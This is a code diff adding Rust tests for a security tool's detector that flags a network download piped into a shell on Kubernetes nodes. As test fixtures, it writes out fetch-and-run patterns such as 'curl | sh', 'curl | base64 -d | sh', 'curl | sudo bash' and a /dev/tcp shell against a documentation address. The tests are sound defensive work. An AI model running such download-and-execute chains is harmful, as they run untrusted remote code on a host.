@@ -3,7 +3,7 @@
 
 use palisade_schemas::{NodeEvent, NodeEventKind};
 
-use super::{BackdoorArtifact, ReconBurst};
+use super::{BackdoorArtifact, PipeToShell, ReconBurst};
 use crate::detectors::node_runtime::{NodeLists, SharedNodeLists};
 use crate::unit::Event;
 use crate::unit::WindowedDetector;
@@ -220,4 +220,183 @@ fn downloads_never_run_run_too_late_or_elsewhere_are_not() {
         exec_at("/tmp/y", Some("c4"), T + 3_700_002),
     ];
     assert_eq!(feed(&mut detector, &elsewhere), 0, "another container's /tmp/y");
+}
+
+// ---- pipes: the windowed half of K8S.NODE_DownloadAndRunCombo ----------------------------------------------
+
+fn pipes() -> PipeToShell {
+    PipeToShell::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()))
+}
+
+/// `command` exec'd as process `pid` (child of `ppid`) with `stdin` and `stdout` (pipe inodes, 0 for a tty).
+fn piped(command: &str, pid: i64, ppid: i64, (stdin, stdout): (u64, u64), at_ms: i64) -> NodeEvent {
+    let mut event = exec_at(command, Some("c1"), at_ms);
+    (event.pid, event.tgid, event.ppid) = (pid, pid, ppid);
+    let end = |inode: u64| if inode == 0 { "tty".to_owned() } else { format!("pipe:[{inode}]") };
+    event.stdio = vec![end(stdin), end(stdout), "tty".into()];
+    event
+}
+
+fn connect(pid: i64, at_ms: i64) -> NodeEvent {
+    let mut event = exec_at("x", Some("c1"), at_ms);
+    event.kind = NodeEventKind::NetConnect;
+    (event.pid, event.tgid) = (pid, pid);
+    event.net = Some(palisade_schemas::NetDetail {
+        family: "inet".into(),
+        protocol: "tcp".into(),
+        src_addr: None,
+        src_port: None,
+        dst_addr: Some("203.0.113.9".into()),
+        dst_port: Some(80),
+        payload_head: None,
+    });
+    event
+}
+
+fn fired(detector: &mut PipeToShell, events: &[NodeEvent]) -> Vec<std::collections::BTreeMap<String, String>> {
+    events.iter().flat_map(|event| detector.observe(&Event::Node(event))).map(|finding| finding.details).collect()
+}
+
+#[test]
+fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
+    // `curl -s http://… | sh` typed in a script: no command line shows the pipe. The reader may exec first.
+    let textbook = [
+        piped("sh", 11, 10, (7, 0), T),
+        piped("curl -s http://203.0.113.9/i", 12, 10, (0, 7), T + 1),
+        connect(12, T + 2),
+        piped("id", 13, 11, (7, 0), T + 3),
+    ];
+    let found = fired(&mut pipes(), &textbook);
+    assert_eq!(found.len(), 1, "once per pipe: {found:?}");
+    assert_eq!(found[0]["downloaded_from"], "203.0.113.9:80");
+    assert_eq!(found[0]["download_command"], "curl -s http://203.0.113.9/i");
+    assert!(found[0]["how"].contains("reads its program"), "{:?}", found[0]);
+
+    // A renamed downloader and a renamed shell: the reader is known by the two programs it starts.
+    let renamed = [
+        piped("/tmp/fetch -s http://203.0.113.9/i", 22, 20, (0, 8), T),
+        piped("/tmp/worker", 21, 20, (8, 0), T + 1),
+        connect(22, T + 2),
+        piped("chmod +x /tmp/m", 23, 21, (8, 0), T + 3),
+    ];
+    let mut detector = pipes();
+    assert!(fired(&mut detector, &renamed).is_empty(), "one program started is not yet a shell");
+    // A background job's stdin is /dev/null; it is still the reader's child.
+    let found = fired(&mut detector, &[piped("/tmp/m", 24, 21, (0, 0), T + 4)]);
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0]["how"], "the reader started chmod, m");
+
+    // `curl | base64 -d | sh`: the network is two pipes upstream. And a `/dev/tcp` shell: its child writes.
+    let staged = [
+        piped("curl -s http://203.0.113.9/b", 32, 30, (0, 9), T),
+        piped("base64 -d", 33, 30, (9, 10), T + 1),
+        piped("bash", 34, 30, (10, 0), T + 2),
+        connect(32, T + 3),
+    ];
+    let found = fired(&mut pipes(), &staged);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0]["download_command"], "curl -s http://203.0.113.9/b");
+    let dev_tcp = [connect(41, T), piped("cat", 42, 41, (0, 11), T + 1), piped("sh -s -- -y", 43, 40, (11, 0), T + 2)];
+    assert_eq!(fired(&mut pipes(), &dev_tcp).len(), 1);
+
+    // `while read l; do $l; done` in a subshell that execs nothing: its programs share the read end and parent.
+    let loop_reader = [
+        piped("curl -s http://203.0.113.9/l", 52, 50, (0, 12), T),
+        connect(52, T + 1),
+        piped("id", 53, 51, (12, 0), T + 2),
+        piped("uname -a", 54, 51, (12, 0), T + 3),
+    ];
+    assert_eq!(fired(&mut pipes(), &loop_reader).len(), 1);
+
+    // `curl … | sudo bash`: sudo has operands and starts one program, but that program reads the pipe.
+    let wrapped = [
+        piped("curl -s http://203.0.113.9/s", 142, 140, (0, 22), T),
+        piped("sudo bash", 141, 140, (22, 0), T + 1),
+        connect(142, T + 2),
+        piped("bash", 143, 141, (22, 0), T + 3),
+    ];
+    let found = fired(&mut pipes(), &wrapped);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0]["run_by"], "bash");
+}
+
+#[test]
+fn pipes_that_do_not_run_a_download_stay_quiet() {
+    let quiet = [
+        // `curl | tar xz`: tar starts one decompressor.
+        piped("curl -sL http://203.0.113.9/a.tgz", 62, 60, (0, 13), T),
+        piped("tar xz", 61, 60, (13, 0), T + 1),
+        connect(62, T + 2),
+        piped("gzip -d", 63, 61, (13, 14), T + 3),
+        // `curl | python3 -c '…'` and `curl | jq`: the program is an argument.
+        piped("curl -s http://203.0.113.9/j", 72, 70, (0, 15), T + 4),
+        piped("python3 -c import json,sys; print(json.load(sys.stdin))", 71, 70, (15, 0), T + 5),
+        connect(72, T + 6),
+        piped("curl -s http://203.0.113.9/k", 82, 80, (0, 16), T + 7),
+        piped("jq .items", 81, 80, (16, 0), T + 8),
+        connect(82, T + 9),
+        // `bash -c '…'` reading a pipe: the program is its argument.
+        piped("curl -s http://203.0.113.9/m", 92, 90, (0, 17), T + 10),
+        piped("bash -ec echo hi", 91, 90, (17, 0), T + 11),
+        connect(92, T + 12),
+        // A shell reading a pipe whose writer never connected (`cat script | sh`).
+        piped("cat /root/install.sh", 102, 100, (0, 18), T + 13),
+        piped("sh", 101, 100, (18, 0), T + 14),
+        piped("id", 103, 101, (18, 0), T + 15),
+        piped("uname", 104, 101, (18, 0), T + 16),
+    ];
+    let mut detector = pipes();
+    assert_eq!(fired(&mut detector, &quiet), Vec::<std::collections::BTreeMap<String, String>>::new());
+    // A connection an hour and more away from the writer's exec is not its download.
+    let stale = [connect(112, T), piped("curl -s http://203.0.113.9/s", 112, 110, (0, 19), T + 3_700_000)];
+    let stale_reader = [piped("sh", 111, 110, (19, 0), T + 3_700_001)];
+    let mut detector = pipes();
+    assert!(fired(&mut detector, &stale).is_empty());
+    assert!(fired(&mut detector, &stale_reader).is_empty());
+    // A connection an hour behind the node's newest event is late: counted, not kept.
+    assert!(fired(&mut detector, &[connect(111, T + 10)]).is_empty());
+    assert_eq!(detector.late_events(), 1);
+}
+
+#[test]
+fn pipe_state_is_bounded_and_survives_a_restart() {
+    let mut detector = pipes();
+    for n in 0..1000 {
+        fired(&mut detector, &[piped("cat", 1000 + n, 999, (0, 100_000 + n as u64), T + n)]);
+        fired(&mut detector, &[connect(5000 + n, T + n)]);
+    }
+    let snapshot = detector.snapshot();
+    let text = snapshot.to_string();
+    assert!(text.len() < 200_000, "{} bytes for one key", text.len());
+    // A restart between the writer and the reader: the snapshot carries the pipe.
+    let mut before = pipes();
+    fired(&mut before, &[piped("curl -s http://203.0.113.9/r", 2, 1, (0, 20), T), connect(2, T + 1)]);
+    let mut after = pipes();
+    after.restore(&before.snapshot()).unwrap();
+    assert_eq!(fired(&mut after, &[piped("sh", 3, 1, (20, 0), T + 2)]).len(), 1);
+    // Expired with the node's event time, not the engine's alone.
+    after.expire(T + 4 * 3_600_000);
+    assert_eq!(after.keys(), 1, "node-a's clock has not moved");
+    fired(&mut after, &[exec_at("ls", Some("c9"), T + 4 * 3_600_000)]);
+    after.expire(T + 4 * 3_600_000);
+    assert_eq!(after.keys(), 0);
+}
+
+#[test]
+fn a_wrapper_script_reading_a_pipe_is_judged_by_what_it_execs_into() {
+    // `curl | python3 -c …` through a pyenv shim: env → bash shim (helpers as children) → python3.11 -c.
+    let shim = [
+        piped("curl -s http://203.0.113.9/w", 122, 120, (0, 21), T),
+        piped("/usr/bin/env bash /root/.pyenv/shims/python3 -c pass", 121, 120, (21, 0), T + 1),
+        piped("bash /root/.pyenv/shims/python3 -c pass", 121, 120, (21, 0), T + 2),
+        connect(122, T + 3),
+        piped("pyenv version-name", 123, 121, (21, 0), T + 4),
+        piped("readlink -f x", 124, 121, (21, 0), T + 5),
+        piped("/usr/bin/python3.11 -c pass", 121, 120, (21, 0), T + 6),
+    ];
+    assert!(fired(&mut pipes(), &shim).is_empty());
+    // The same chain ending in a bare interpreter reads its program from the pipe.
+    let mut bare = shim.to_vec();
+    bare[6] = piped("/usr/bin/python3.11", 121, 120, (21, 0), T + 6);
+    assert_eq!(fired(&mut pipes(), &bare).len(), 1);
 }
